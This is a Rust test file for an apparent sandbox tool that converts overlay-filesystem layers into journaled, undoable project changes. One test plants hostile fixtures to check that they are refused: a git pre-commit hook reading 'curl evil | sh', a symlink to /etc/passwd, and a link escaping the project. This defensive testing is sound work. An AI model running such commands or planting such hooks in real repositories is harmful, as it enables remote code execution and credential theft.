//! The upper layer → change conversion, on layers written by hand as an overlay writes
//! them: copies, whiteouts (0/0 devices), opaque directories (`user.overlay.opaque`).

use std::os::unix::fs::{PermissionsExt, symlink};

use rustix::fs::{CWD, FileType, Mode, XattrFlags, mknodat, setxattr};

use super::*;
use crate::TextEncoding;

struct Case {
    _project: tempfile::TempDir,
    root: PathBuf,
    context: ToolContext,
    dir: OverlayDir,
}

impl Case {
    fn new() -> Self {
        let project = tempfile::tempdir().unwrap();
        let root = project.path().canonicalize().unwrap();
        for dir in ["src", "d/sub", ".git", "dist"] {
            std::fs::create_dir_all(root.join(dir)).unwrap();
        }
        for (path, text) in [
            ("src/a.txt", "hello\n"),
            ("same.txt", "same\n"),
            ("gone.txt", "bye\n"),
            ("d/x", "x\n"),
            ("d/sub/y", "y\n"),
            ("script.sh", "echo hi\n"),
            (".gitignore", "dist/\n"),
        ] {
            std::fs::write(root.join(path), text).unwrap();
        }
        std::fs::write(root.join("blob.bin"), [0_u8, 1, 2]).unwrap();
        let context = ToolContext::new(&root).unwrap();
        let dir = OverlayDir::create().unwrap();
        Self {
            _project: project,
            root,
            context,
            dir,
        }
    }

    fn upper(&self) -> PathBuf {
        self.dir.path().join("upper")
    }

    fn write(&self, path: &str, bytes: &[u8]) {
        let at = self.upper().join(path);
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::fs::write(at, bytes).unwrap();
    }

    /// A whiteout at `path`; `false` when this system cannot make one.
    fn whiteout(&self, path: &str) -> bool {
        let made = mknodat(
            CWD,
            self.upper().join(path),
            FileType::CharacterDevice,
            Mode::empty(),
            0,
        );
        if let Err(error) = &made {
            eprintln!("SKIPPED: cannot make a whiteout here ({error})");
        }
        made.is_ok()
    }

    fn convert(self) -> (CommandChanges, PathBuf, ToolContext, tempfile::TempDir) {
        let changes = from_overlay(&self.context, self.dir, "the command");
        (changes, self.root, self.context, self._project)
    }
}

fn paths(changes: &CommandChanges) -> Vec<(&str, &str)> {
    changes
        .plan
        .changes
        .iter()
        .map(|change| {
            let mark = match (&change.before, &change.after) {
                (None, _) => "A",
                (Some(_), None) => "D",
                (Some(_), Some(_)) => "M",
            };
            (mark, change.path.as_str())
        })
        .collect()
}

#[test]
fn edits_creations_and_whiteouts_become_the_journaled_plan_and_apply_and_undo() {
    let case = Case::new();
    case.write("src/a.txt", b"HELLO\n");
    case.write("same.txt", b"same\n");
    case.write("new.txt", b"new\n");
    if !case.whiteout("gone.txt") {
        return;
    }
    let (changes, root, context, _keep) = case.convert();
    assert_eq!(
        paths(&changes),
        [("D", "gone.txt"), ("A", "new.txt"), ("M", "src/a.txt")]
    );
    assert_eq!(changes.state, ChangesState::Pending);
    assert!(changes.refused.is_empty(), "{:?}", changes.refused);
    // Nothing is in the project until applied.
    assert!(!root.join("new.txt").exists());
    let applied = crate::edit::apply(&context, &changes.plan).unwrap();
    assert!(changes.apply_direct(&context).is_empty());
    assert_eq!(
        std::fs::read_to_string(root.join("src/a.txt")).unwrap(),
        "HELLO\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("new.txt")).unwrap(),
        "new\n"
    );
    assert!(!root.join("gone.txt").exists());
    crate::edit::undo(&context, &applied).unwrap();
    assert_eq!(
        std::fs::read_to_string(root.join("src/a.txt")).unwrap(),
        "hello\n"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("gone.txt")).unwrap(),
        "bye\n"
    );
    assert!(!root.join("new.txt").exists());
}

#[test]
fn an_opaque_directory_removes_what_the_layer_lacks_below_it() {
    let case = Case::new();
    case.write("d/n", b"n\n");
    let marked = setxattr(
        case.upper().join("d"),
        "user.overlay.opaque",
        b"y",
        XattrFlags::empty(),
    );
    if let Err(error) = marked {
        eprintln!("SKIPPED: no user extended attributes here ({error})");
        return;
    }
    let (changes, root, context, _keep) = case.convert();
    assert_eq!(
        paths(&changes),
        [("A", "d/n"), ("D", "d/sub/y"), ("D", "d/x")]
    );
    crate::edit::apply(&context, &changes.plan).unwrap();
    assert!(changes.apply_direct(&context).is_empty());
    assert!(!root.join("d/sub").exists(), "the emptied directory goes");
    assert!(root.join("d/n").exists());
}

#[test]
fn binaries_are_kept_byte_for_byte_and_shown_by_hash_and_modes_carry_over() {
    let case = Case::new();
    let binary = [0_u8, 200, 3, 255];
    case.write("blob.bin", &binary);
    case.write("script.sh", b"echo hi\n");
    std::fs::set_permissions(
        case.upper().join("script.sh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let (changes, root, context, _keep) = case.convert();
    assert_eq!(paths(&changes), [("M", "blob.bin"), ("M", "script.sh")]);
    let blob = &changes.plan.changes[0];
    assert_eq!(blob.written.unwrap().encoding, TextEncoding::Latin1);
    let diff = changes.diff();
    assert!(
        diff.contains("Binary files a/blob.bin and b/blob.bin differ (sha256 "),
        "{diff}"
    );
    assert!(
        diff.contains("old mode 100644\nnew mode 100755\n"),
        "{diff}"
    );
    let applied = crate::edit::apply(&context, &changes.plan).unwrap();
    assert_eq!(std::fs::read(root.join("blob.bin")).unwrap(), binary);
    let mode = std::fs::metadata(root.join("script.sh"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o755);
    crate::edit::undo(&context, &applied).unwrap();
    assert_eq!(std::fs::read(root.join("blob.bin")).unwrap(), [0, 1, 2]);
    let mode = std::fs::metadata(root.join("script.sh"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o644);
}

#[test]
fn ignored_files_go_straight_and_links_out_of_the_project_and_git_are_refused() {
    let case = Case::new();
    case.write("dist/app.js", b"bundle");
    case.write(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n");
    std::fs::create_dir_all(case.upper().join("src")).unwrap();
    symlink("/etc/passwd", case.upper().join("evil")).unwrap();
    symlink("../../outside", case.upper().join("src/up")).unwrap();
    symlink("src/a.txt", case.upper().join("inside")).unwrap();
    let (changes, root, context, _keep) = case.convert();
    assert!(changes.plan.changes.is_empty(), "{:?}", paths(&changes));
    let refused = changes.refused.join("\n");
    assert!(refused.contains("evil: a link to /etc/passwd"), "{refused}");
    assert!(
        refused.contains("src/up: a link to ../../outside"),
        "{refused}"
    );
    assert!(refused.contains(".git/hooks: inside .git"), "{refused}");
    assert!(changes.apply_direct(&context).is_empty());
    assert_eq!(std::fs::read(root.join("dist/app.js")).unwrap(), b"bundle");
    assert_eq!(
        std::fs::read_link(root.join("inside")).unwrap(),
        PathBuf::from("src/a.txt")
    );
    assert!(!root.join("evil").exists() && !root.join("src/up").exists());
    assert!(!root.join(".git/hooks/pre-commit").exists());
    let report = changes.report("applied");
    assert!(
        report.contains("written straight, without undo: dist/app.js"),
        "{report}"
    );
}

#[test]
fn a_file_the_project_changed_meanwhile_is_a_conflict_and_kept() {
    let case = Case::new();
    case.write("src/a.txt", b"from the command\n");
    let started = case.dir.started();
    // Changed after the command started (as the file system's clock counts).
    let path = case.root.join("src/a.txt");
    for _ in 0..400 {
        std::fs::write(&path, "from the user\n").unwrap();
        let meta = std::fs::metadata(&path).unwrap();
        if hone_sandbox::overlay::change_time(&meta) > started {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let (changes, root, _context, _keep) = case.convert();
    assert!(changes.plan.changes.is_empty());
    assert_eq!(changes.conflicts, ["src/a.txt"]);
    assert_eq!(
        std::fs::read_to_string(root.join("src/a.txt")).unwrap(),
        "from the user\n"
    );
}
